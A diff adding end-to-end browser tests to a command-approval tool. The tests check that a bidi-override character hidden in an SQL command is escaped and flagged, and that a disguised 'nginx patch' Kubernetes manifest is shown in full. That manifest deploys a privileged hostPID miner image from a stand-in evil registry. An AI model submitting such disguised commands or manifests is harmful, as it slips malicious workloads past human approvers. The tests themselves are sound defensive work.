@@ -77,3 +77,63 @@ def test_approve_in_a_real_browser(flow, browser, tmp_path: Path):
     browser.back()
     browser.refresh()  # the spent link shows no buttons any more
     assert browser.find_elements(By.ID, "approve") == []
+
+
+BIDI = "UPDATE customers SET notes = 'e2e-bidi' WHERE id = 213 /* INC-7 \u202e-- 0 < di RO */"
+FOREIGN = {"apiVersion": "apps/v1", "kind": "Deployment",
+           "metadata": {"name": "nginx-patch", "namespace": "demo", "labels": {"app": "nginx-patch"}},
+           "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "nginx-patch"}},
+                    "template": {"metadata": {"labels": {"app": "nginx-patch"}},
+                                 "spec": {"hostPID": True, "containers": [{
+                                     "name": "nginx", "image": "registry.evil.example/miner:latest",
+                                     "securityContext": {"privileged": True}}]}}}}
+
+
+def test_a_bidi_override_is_shown_escaped_with_a_warning(flow, browser):
+    from selenium.webdriver.common.by import By
+
+    pending = flow.pending(BIDI)
+    rid = pending["request_id"]
+    status = flow.status(rid)
+    assert status["risk"] == "hidden-text"
+    browser.get(newest_link(flow, rid, "ada@dev.example"))
+    command = browser.find_element(By.ID, "command")
+    assert "\u202e" not in command.text  # never rendered: it would reorder what the approver reads
+    marks = command.find_elements(By.CSS_SELECTOR, "mark.invisible")
+    assert [m.text for m in marks] == ["⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩"]
+    assert marks[0].value_of_css_property("background-color") == "rgba(255, 212, 0, 1)"  # highlighted
+    assert command.text.startswith("UPDATE customers SET notes = 'e2e-bidi' WHERE id = 213 /* INC-7 ⟨U+202E")
+    warning = browser.find_element(By.ID, "hidden-warning")
+    assert "display differently from what runs" in warning.text and "U+202E RIGHT-TO-LEFT OVERRIDE" in warning.text
+    assert browser.find_element(By.ID, "risk").text == "hidden-text"
+    browser.find_element(By.ID, "deny").click()
+    assert flow.wait_status(rid, "denied")["status"] == "denied"
+
+
+def test_kubectl_apply_shows_the_whole_manifest_and_its_dry_run_diff(flow, browser):
+    """The issue's attack: "bump nginx patch" was a privileged hostPID deployment of a foreign image.
+    The approver now reads the whole manifest and the server-side dry run's diff."""
+    from selenium.webdriver.common.by import By
+
+    r = flow.call("POST", "/api/execute", json={"target": "demo-k8s", "kubectl": ["apply", "-n", "demo"],
+                                                "manifest": FOREIGN, "reason": "bump nginx patch"})
+    assert r.status_code == 202, r.text
+    rid = r.json()["request_id"]
+    browser.get(newest_link(flow, rid, "ada@dev.example"))
+    assert browser.find_element(By.ID, "command").text == "kubectl apply -n demo"
+    manifest = browser.find_element(By.ID, "manifest").text
+    for line in ("kind: Deployment", "hostPID: true", "privileged: true", "image: registry.evil.example/miner:latest"):
+        assert line in manifest, manifest
+    diff = browser.find_element(By.ID, "diff").text
+    assert diff.startswith("--- live/demo/deployment.apps/nginx-patch") and "+      hostPID: true" in diff, diff
+    assert "+      - image: registry.evil.example/miner:latest" in diff and "+          privileged: true" in diff
+    assert "execute.preview" in flow.events(rid)  # the dry run is journaled (masked), made before the mail
+    mail = next(read_message(p) for p in sorted((flow.stack.state_dir / "mail").glob("*.eml"), reverse=True)
+                if rid in read_message(p).get_body(("plain",)).get_content())
+    text = mail.get_body(("plain",)).get_content()
+    assert "hostPID: true" in text and "+      hostPID: true" in text and "[manifest (YAML, complete)]" in text
+    get = flow.call("POST", "/api/execute", json={"target": "demo-k8s",
+                                                  "kubectl": ["get", "deployment", "nginx-patch", "-n", "demo"]})
+    assert get.status_code == 404  # the dry run created nothing
+    browser.find_element(By.ID, "deny").click()
+    assert flow.wait_status(rid, "denied")["status"] == "denied"
